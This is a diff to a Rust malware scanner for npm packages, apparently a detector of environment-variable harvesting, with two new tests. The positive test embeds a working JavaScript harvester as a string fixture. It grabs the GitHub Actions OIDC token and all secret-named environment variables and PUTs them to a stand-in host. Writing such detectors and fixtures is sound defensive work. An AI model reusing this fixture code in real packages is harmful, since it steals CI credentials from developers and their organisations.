@@ -55,15 +55,23 @@ pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
         (!super::traced(&traced, f, s)).then(|| report(p, f, s))?
     }));
     out.extend(per_signal(p, Kind::EnvIterate, |f, s| {
-        if super::traced(&traced, f, s) {
-            return None;
-        }
         // Iterating the environment is ordinary (prefix filters, dotenv); iterating it with a
         // secret-name filter in the same function is harvesting.
         if !f.has_in(Kind::EnvSecretFilter, s.func) && !f.has_in(Kind::Network, s.func) {
             return None;
         }
-        report(p, f, s)
+        // A traced path from the same line says it already, unless the file filters the
+        // names for secrets and the path is weaker: one secret variable read on the line (the
+        // CI token a harvester also uses) is not the harvest.
+        let r = report(p, f, s)?;
+        let harvest = f.has(Kind::EnvSecretFilter);
+        let said = traced.iter().any(|t| {
+            (!harvest || t.severity >= r.severity)
+                && t.evidence
+                    .first()
+                    .is_some_and(|e| e.file == f.path && e.line == s.line)
+        });
+        (!said).then_some(r)
     }));
     out
 }
@@ -569,6 +577,44 @@ mod tests {
         );
         assert_eq!(severity(&commented), Critical);
         assert_eq!(severity(&code(4)), Medium);
+    }
+
+    /// A CI-gated harvester: the line that reads the OIDC request token (a traced, weaker
+    /// path) also iterates the environment filtered for secret names, and the function posts:
+    /// the harvest is reported at its own strength (critical).
+    #[test]
+    fn positive_secret_filter_harvest_on_a_line_with_a_token_path() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "lib/init.js",
+                "(function () {\n  var e = process.env; if (e.GITHUB_ACTIONS !== 'true') return;\n  function g(u, o) { return fetch(u, o).then(function (r) { return r.json(); }); }\n  (async function () { var id = await g(e.ACTIONS_ID_TOKEN_REQUEST_URL, { headers: { Authorization: 'bearer ' + e.ACTIONS_ID_TOKEN_REQUEST_TOKEN } }); var out = { oidc: id.value, env: {} }; Object.keys(e).forEach(function (k) { if (/TOKEN|SECRET|KEY/.test(k)) out.env[k] = e[k]; });\n    await fetch('https://collect.example.net/u', { method: 'PUT', body: JSON.stringify(out) }); })();\n})();\n",
+            ),
+        ]);
+        assert_eq!(
+            severity(&s, "code/env-exfiltration"),
+            Some(diligence_finding::Severity::Critical)
+        );
+        assert_eq!(s.verdict, crate::Verdict::Malicious);
+    }
+
+    /// The benign look-alike: a release tool reads the OIDC request token on the line that
+    /// lists `NPM_CONFIG_*` variables (a prefix, no secret-name filter) and asks the CI
+    /// provider for its token: the traced token path (medium) stands, no harvest is added.
+    #[test]
+    fn negative_release_tool_oidc_with_prefix_listing() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "release.js",
+                "module.exports = async function () {\n  const e = process.env; const cfg = {}; const id = await fetch(e.ACTIONS_ID_TOKEN_REQUEST_URL + '&audience=npm', { headers: { Authorization: 'bearer ' + e.ACTIONS_ID_TOKEN_REQUEST_TOKEN } }).then((r) => r.json()); Object.keys(e).forEach((k) => { if (k.startsWith('NPM_CONFIG_')) cfg[k] = e[k]; });\n  return { id: id.value, cfg };\n};\n",
+            ),
+        ]);
+        assert!(
+            severity(&s, "code/env-exfiltration") < Some(diligence_finding::Severity::Critical),
+            "{:?}",
+            s.findings
+        );
     }
 
     #[test]
